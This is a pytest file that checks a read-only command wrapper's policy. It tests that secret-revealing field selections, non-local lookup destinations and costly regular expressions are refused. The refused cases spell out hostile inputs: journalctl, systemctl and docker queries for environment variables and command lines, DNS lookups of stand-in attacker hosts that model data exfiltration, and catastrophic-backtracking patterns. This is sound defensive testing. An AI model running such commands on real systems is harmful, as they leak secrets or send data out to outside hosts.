"""Issue 9 (findings 4, 5 and the pattern part of 6) through the real wrapper script with the
shipped policy: every option that selects fields, properties, formats or templates takes
only allow-listed names; every operand that names a remote endpoint or a lookup name takes
only destinations the policy lists (no resolver or server selection); a client's regular
expression is bounded in what it may cost. Refusals are requests on their own channel
(exit 126, one refusal line, nothing run); allowances are `mcp:explain` (nothing runs, and
a binary missing on this machine only adds `command_not_installed` after every check)."""

import json

import pytest
from mcp_infra_target.readonly import patterns
from wrapper_support import make_root, refusal_of, remove_root, run_wrapper

NOT_HERE = {"command_not_installed", "path_not_found"}


@pytest.fixture(scope="module")
def root():
    made = make_root()
    yield made
    remove_root(made)


def explain(root, command):
    done = run_wrapper(root, "mcp:explain " + command)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def assert_allowed(root, command):
    answer = explain(root, command)
    assert answer["allowed"] or answer["reason"] in NOT_HERE, (command, answer)
    return answer


def assert_refused(root, command, reason):
    done = run_wrapper(root, command)
    refusal = refusal_of(done)
    assert refusal["reason"] == reason, (command, refusal)
    assert done.stdout == b""
    return refusal


def case(command, reason, label):
    return pytest.param(command, reason, id=label)


# Finding 4: wherever a command selects fields, they come from an allow-list -------------------
FIELD_REFUSED = [
    case("journalctl -F COREDUMP_ENVIRON", "bad_value", "journal-F-environ"),
    case("journalctl -F COREDUMP", "bad_value", "journal-F-core-image"),
    case("journalctl -F COREDUMP_PROC_MAPS", "bad_value", "journal-F-maps"),
    case("journalctl -F _CMDLINE", "bad_value", "journal-F-cmdline"),
    case("journalctl --field=COREDUMP_ENVIRONX", "bad_value", "journal-field-prefix-trick"),
    case("journalctl -F coredump_environ", "bad_value", "journal-F-lower"),
    case("journalctl -o json", "option_required", "journal-json-all-fields"),
    case("journalctl -ojson-pretty -n 1", "option_required", "journal-json-pretty-cluster"),
    case("journalctl --output=verbose", "option_required", "journal-verbose"),
    case("journalctl -o export -u ssh", "option_required", "journal-export"),
    case("journalctl -o json --output-fields=MESSAGE,_CMDLINE", "bad_value", "journal-output-fields"),
    case("journalctl -o cat --output-fields=COREDUMP", "bad_value", "journal-cat-fields"),
    case("journalctl COREDUMP_ENVIRON=PASSWORD=x", "bad_value", "journal-match-oracle"),
    case("journalctl _PID=1 + _CMDLINE=/usr/bin/mysql", "bad_value", "journal-match-disjunction"),
    case("systemctl show -p Environment nginx", "bad_value", "systemctl-p-environment"),
    case("systemctl show --property=ActiveState,Environment nginx", "bad_value", "systemctl-list"),
    case("systemctl show -P EnvironmentFiles nginx", "bad_value", "systemctl-P"),
    case("systemctl show -pExecStart nginx", "bad_value", "systemctl-execstart"),
    case("systemctl show -p SetCredential nginx", "bad_value", "systemctl-credential"),
    case("systemctl show -p StandardInputData nginx", "bad_value", "systemctl-input-data"),
    case("systemctl -p Environment show nginx", "bad_value", "systemctl-p-first"),
    case("systemctl status -o verbose nginx", "bad_value", "systemctl-status-verbose"),
    case("loginctl show-session -p Environment 1", "bad_value", "loginctl-p"),
    case("timedatectl show -p Environment", "bad_value", "timedatectl-p"),
    case("docker inspect web", "option_required", "docker-inspect-bare"),
    case("docker inspect --format '{{.Config.Env}}' web", "bad_value", "docker-inspect-env"),
    case("docker inspect -f '{{json .}}' web", "bad_value", "docker-inspect-dot"),
    case("docker inspect --format json web", "bad_value", "docker-inspect-json-word"),
    case("docker inspect -f '{{range .Config.Env}}{{.}}{{end}}' web", "bad_value", "docker-range"),
    case("docker inspect -f '{{.State}}' web", "bad_value", "docker-subtree"),
    case("docker ps --format json", "bad_value", "docker-ps-json"),
    case("docker ps --format '{{.Labels}}'", "bad_value", "docker-ps-labels"),
    case("docker ps --format '{{ .Names | printf \"%s\" }}'", "bad_value", "docker-pipeline"),
    case("docker images --format '{{json .}}'", "bad_value", "docker-images-all"),
    case("podman inspect -f '{{.Config.Env}}' web", "bad_value", "podman-inspect-env"),
    case("ps -eo pid,environ", "bad_value", "ps-o"),
    case("ps --sort=environ", "bad_value", "ps-sort"),
    case("lsblk -o NAME,SECRET", "bad_value", "lsblk-o"),
    case("findmnt -o TARGET,PASSWORD", "bad_value", "findmnt-o"),
    case("lscpu --extended=CPU,NOPE", "bad_value", "lscpu-e"),
    case("lscpu --caches=NAME,NOPE", "bad_value", "lscpu-C"),
    case("lsblk -x SECRET", "bad_value", "lsblk-sort"),
    case("lsns -o NS,ENVIRON", "bad_value", "lsns-o"),
    case("lslocks -o PID,NOPE", "bad_value", "lslocks-o"),
    case("lsipc -oKEY,NOPE", "bad_value", "lsipc-o"),
    case("lsmem -o RANGE,NOPE", "bad_value", "lsmem-o"),
    case("swapon --show=NAME,NOPE", "bad_value", "swapon-show"),
    case("df --output=source,secret", "bad_value", "df-output"),
    case("top -o ENVIRON", "bad_value", "top-o"),
    case("loginctl user-status -o verbose root", "bad_value", "loginctl-o"),
    case("systemctl status -o json nginx", "bad_value", "systemctl-status-json"),
    case("podman ps --format '{{.Labels}}'", "bad_value", "podman-ps"),
    case("docker stats --no-stream --format '{{json .}}'", "bad_value", "docker-stats"),
    case("stat -c '%n %q' /etc/hostname", "bad_value", "stat-c"),
    case("find /etc -maxdepth 1 -printf '%p %Q'", "bad_value", "find-printf"),
    case("dpkg-query -W -f '${Secret}'", "bad_value", "dpkg-query-f"),
    case("date +%Q", "bad_value", "date-format"),
]
# The client's errors check (diagnose_system: readonly/commands.py, journal_errors) asks for
# JSON with five named fields; one field more, another format or a match on a field outside
# the allow-list is refused all the same.
ERRORS_FIELDS = "MESSAGE,SYSLOG_IDENTIFIER,_SYSTEMD_UNIT,UNIT,PRIORITY"


def errors_form(fields=ERRORS_FIELDS, output="json", more=""):
    return f"journalctl -p err -n 200 --since -1h -o {output} --output-fields={fields} -q{more}"


FIELD_REFUSED += [
    case(errors_form(ERRORS_FIELDS + ",_CMDLINE"), "bad_value", "errors-one-field-more"),
    case(errors_form(ERRORS_FIELDS + ",COREDUMP_ENVIRON"), "bad_value", "errors-environ"),
    case(errors_form(more=" --output-fields=_CMDLINE"), "bad_value", "errors-fields-twice"),
    case(errors_form(ERRORS_FIELDS.lower()), "bad_value", "errors-lower-case"),
    case(errors_form(ERRORS_FIELDS + ",,_CMDLINE"), "bad_value", "errors-empty-item"),
    case(errors_form(ERRORS_FIELDS + ",*"), "bad_value", "errors-wildcard"),
    case(errors_form("MESSAGE,_SYSTEMD_UNIT*"), "bad_value", "errors-glob"),
    case(errors_form(ERRORS_FIELDS.replace(",", ";")), "bad_value", "errors-separator"),
    case(errors_form(""), "bad_value", "errors-no-fields"),
    case(errors_form(output="jsonx"), "bad_value", "errors-unknown-format"),
    case(errors_form(more=" _CMDLINE=/bin/sh"), "bad_value", "errors-match-outside"),
    case(errors_form(more=" --file=/var/log/journal/x.journal"), "unknown_option",
         "errors-other-journal"),
    case(errors_form().replace(f" --output-fields={ERRORS_FIELDS}", ""), "option_required",
         "errors-json-without-fields"),
]
FIELD_ALLOWED = [
    errors_form(), errors_form(output="json-seq"),
    "systemctl show nginx", "systemctl show -p ActiveState,SubState nginx",
    "systemctl show --property=ActiveState,SubState,NRestarts,MemoryCurrent nginx ssh",
    "systemctl show -P MainPID nginx", "systemctl status nginx",
    "journalctl -F _SYSTEMD_UNIT", "journalctl -F PRIORITY",
    "journalctl -o json --output-fields=MESSAGE,PRIORITY,_SYSTEMD_UNIT -n 10",
    "journalctl -o verbose --output-fields=MESSAGE -n 1", "journalctl -o short-iso -u ssh",
    "journalctl _SYSTEMD_UNIT=ssh.service", "loginctl show-user root", "timedatectl show",
    "docker ps --format '{{.Names}}'", "docker ps -a --format 'table {{.Names}}\\t{{.Status}}'",
    "docker inspect -f '{{.State.Status}} {{.RestartCount}}' web",
    "docker inspect --format '{{json .State.Health.Status}}' web",
    "docker stats --no-stream --format '{{.Name}} {{.CPUPerc}}'",
    "podman inspect -f '{{.State.Status}}' web", "ps -eo pid,comm,rss --sort=-rss",
    "lsblk -o NAME,SIZE,MOUNTPOINT", "lsblk -o +uuid", "findmnt -o TARGET,SOURCE",
    "lsblk -x SIZE", "lscpu -eCPU,CORE,ONLINE", "lscpu --caches=NAME,ONE-SIZE", "lsns -o NS,TYPE",
    "lslocks -o PID,PATH", "lsmem -o RANGE,SIZE", "swapon --show=NAME,SIZE",
    "df --output=source,pcent", "top -o %MEM", "loginctl user-status -o short-iso root",
    "podman ps --format '{{.Names}} {{.Status}}'", "docker images --format '{{.Repository}}'",
    "stat -c '%n %s %y' /etc/hostname", "find /etc -maxdepth 1 -printf '%p %TY-%Tm-%Td\\n'",
    "dpkg-query -W -f '${Package} ${Version}\\n' dpkg", "date +%Y-%m-%dT%H:%M:%S%:z",
]


@pytest.mark.parametrize("command, reason", FIELD_REFUSED)
def test_field_selection_outside_the_allow_lists_is_refused(root, command, reason):
    assert_refused(root, command, reason)


@pytest.mark.parametrize("command", FIELD_ALLOWED)
def test_allow_listed_field_selection_is_allowed(root, command):
    assert_allowed(root, command)


def test_plain_show_verbs_get_the_allow_listed_default_set(root):
    for command, option in (("systemctl show nginx", "--property="),
                            ("loginctl show-user root", "--property="),
                            ("timedatectl show", "--property=")):
        argv = assert_allowed(root, command)["argv"]
        given = [word for word in argv if word.startswith(option)]
        assert len(given) == 1, argv
        # the default set passes the same allow-list a client's -p does
        name, rest = command.split(" ", 1)
        assert_allowed(root, f"{name} {given[0]} {rest}")
    argv = explain(root, "systemctl show -p MainPID nginx")["argv"]
    assert [w for w in argv if w.startswith("--property")] == [] and "MainPID" in argv


def test_refusals_say_what_is_allowed(root):
    refusal = assert_refused(root, "journalctl -o json", "option_required")
    assert "--output-fields" in refusal["detail"]
    refusal = assert_refused(root, "docker inspect web", "option_required")
    assert "--format" in refusal["detail"] and "environment" in refusal["detail"]
    refusal = assert_refused(root, "systemctl show -p Environment nginx", "bad_value")
    assert "'Environment' is not one of" in refusal["detail"] and "ActiveState" in refusal["detail"]


# Finding 5: the read tier never lets a client choose a server or destination -------------------
EGRESS_REFUSED = [
    case("getent hosts secret-data.attacker.example", "destination_not_allowed", "getent-hosts"),
    case("getent ahosts aGVsbG8.attacker.example", "destination_not_allowed", "getent-ahosts"),
    case("getent ahostsv6 x.attacker.example", "destination_not_allowed", "getent-ahostsv6"),
    case("getent hosts 203.0.113.7", "destination_not_allowed", "getent-reverse"),
    case("getent hosts localhost x.attacker.example", "destination_not_allowed", "getent-second"),
    case("getent hosts localhost.attacker.example", "destination_not_allowed", "getent-suffix"),
    case("getent networks attacker.example", "too_many_operands", "getent-networks"),
    case("dig @1.1.1.1 localhost", "bad_value", "dig-server"),
    case("dig localhost @203.0.113.7", "bad_value", "dig-server-after"),
    case("dig example.com", "destination_not_allowed", "dig-name"),
    case("dig -x 203.0.113.7", "destination_not_allowed", "dig-reverse"),
    case("dig -q data.attacker.example", "destination_not_allowed", "dig-q"),
    case("dig +short data.attacker.example TXT", "destination_not_allowed", "dig-txt"),
    case("dig -p 5353 localhost", "unknown_option", "dig-port"),
    case("host data.attacker.example", "destination_not_allowed", "host-name"),
    case("host localhost 203.0.113.7", "too_many_operands", "host-server"),
    case("nslookup data.attacker.example", "destination_not_allowed", "nslookup-name"),
    case("nslookup localhost 1.1.1.1", "too_many_operands", "nslookup-server"),
    case("ping -c 1 203.0.113.7", "destination_not_allowed", "ping-address"),
    case("ping -c 1 data.attacker.example", "destination_not_allowed", "ping-name"),
    case("ping -c 1 2130706433", "bad_value", "ping-decimal"),
    case("ping -c 1 0x7f000001", "bad_value", "ping-hex"),
    case("ping -c 1 127.1", "bad_value", "ping-short-form"),
    case("ping -c 1 ::ffff:203.0.113.7", "destination_not_allowed", "ping-mapped"),
    case("resolvectl query data.attacker.example", "destination_not_allowed", "resolvectl"),
    case("ss -tn dst data.attacker.example", "destination_not_allowed", "ss-dst"),
    case("ss -tn '( dport = :ssh or dst x.attacker.example )'", "destination_not_allowed",
         "ss-expression"),
    case("ss dev eth0", "destination_not_allowed", "ss-bare-word"),
    case("lsof -i @data.attacker.example", "destination_not_allowed", "lsof-host"),
    case("lsof -i TCP@x.attacker.example:80", "destination_not_allowed", "lsof-proto-host"),
    case("arp data.attacker.example", "destination_not_allowed", "arp-name"),
]
EGRESS_ALLOWED = [
    "getent hosts localhost", "getent ahosts LOCALHOST.", "getent hosts 127.0.0.1",
    "getent hosts ::1", "getent passwd root", "getent networks", "dig +short localhost",
    "dig localhost MX", "dig -x 127.0.0.1", "host -t AAAA localhost", "nslookup localhost",
    "ping -c 1 127.0.0.1", "ping -c 1 localhost", "resolvectl query localhost",
    "ss -tn state established '( dport = :443 or sport = :443 )'", "ss -H -l -n -t 'sport = :22'",
    "ss -tn dst 10.0.0.0/8", "ss -tn dst '[::1]:22'", "lsof -i @10.1.2.3:22", "lsof -i TCP:80",
    "arp -n 10.0.0.1", "ip route get 8.8.8.8",
]


@pytest.mark.parametrize("command, reason", EGRESS_REFUSED)
def test_destinations_outside_the_policy_are_refused(root, command, reason):
    assert_refused(root, command, reason)


@pytest.mark.parametrize("command", EGRESS_ALLOWED)
def test_listed_destinations_and_local_lookups_are_allowed(root, command):
    assert_allowed(root, command)


def test_the_host_own_name_is_a_destination(root):
    import os
    assert_allowed(root, "getent hosts " + os.uname().nodename)


# Finding 6: a client's pattern is bounded in what it may cost -----------------------------------
PATTERN_REFUSED = [
    case("grep -E '(.{1,1000}){1,10}' /etc/hostname", "product", "nested-counted"),
    case("grep -E 'a{1,100}{1,100}' /etc/hostname", "product", "stacked-counted"),
    case("grep '\\(a\\{1,100\\}\\)\\{1,100\\}' /etc/hostname", "product", "bre-counted"),
    case("grep -E '.{1,1000}' /etc/hostname", "product", "large-count"),
    case("grep -E '((a+)+)+' /etc/hostname", "nested or ambiguous", "nested-star"),
    case("grep -E '(a)\\1' /etc/hostname", "backreferences", "backreference"),
    case("grep -e 'x{999999999}' /etc/hostname", "product", "huge-bound"),
    case("journalctl -g '(a|aa)+$'", "nested or ambiguous", "pcre-ambiguous-alternation"),
    case("journalctl -g '(a+)+$'", "nested or ambiguous", "pcre-nested"),
    case("journalctl -g '(?=a)b'", "not offered", "pcre-lookahead"),
    case("journalctl -g '(*LIMIT_MATCH=99999999)a'", "verbs", "pcre-verb"),
    case("journalctl -g '\\g{1}'", "backreferences", "pcre-g"),
    case("pgrep '(.{1,1000}){1,10}'", "product", "pgrep"),
    case("find /var/log -regex '(.{1,1000}){1,10}'", "product", "find-regex"),
    case("sysctl -r '(.{1,1000}){1,10}'", "product", "sysctl-r"),
]
PATTERN_ALLOWED = [
    "grep -E '[0-9]{1,3}(\\.[0-9]{1,3}){3}' /etc/hostname", "grep -c error /etc/hostname",
    "grep -E 'error|warn(ing)?' /etc/hostname", "grep '^#' /etc/hostname",
    "grep -e 'func(' /etc/hostname", "journalctl -g 'error|fail' -n 5",
    "journalctl -g '(?i)timeout after [0-9]+ ?s'", "journalctl -g 'port \\d{1,5}'",
    "pgrep -f 'gunicorn.*wsgi'", "find /var/log -name '*.log'",
    "find /var/log -regex '.*\\.[0-9]+\\.gz'", "sysctl -r '^net\\.ipv4'",
]


@pytest.mark.parametrize("command, words", PATTERN_REFUSED)
def test_costly_patterns_are_refused(root, command, words):
    refusal = assert_refused(root, command, "bad_value")
    assert words in refusal["detail"], refusal


@pytest.mark.parametrize("command", PATTERN_ALLOWED)
def test_ordinary_patterns_are_allowed(root, command):
    assert_allowed(root, command)


def test_grep_has_no_perl_regexps(root):
    assert_refused(root, "grep -P x /etc/hostname", "unknown_option")
    assert_refused(root, "grep --perl-regexp x /etc/hostname", "unknown_option")


def test_pattern_costs_as_the_scanner_counts_them():
    cost = patterns.regex_cost("(a{1,10}){1,20}b{5}", "regex")
    assert (cost.nesting, cost.product, cost.expansion) == (2, 200, 205)
    # the larger reading counts: as BRE the escaped groups nest, as ERE the plain ones do
    assert patterns.regex_cost("\\(x\\{1,9\\}\\)\\{1,9\\}", "regex").product == 81
    assert patterns.regex_cost("(x{1,9}\\)y{1,9}){1,9}", "regex").product == 81
    assert patterns.regex_cost("(a|aa)+", "pcre").nesting == 2
    assert patterns.regex_cost("(a|aa)?", "pcre").nesting == 1
    assert patterns.regex_cost("[]a{1,99}]", "regex").product == 1
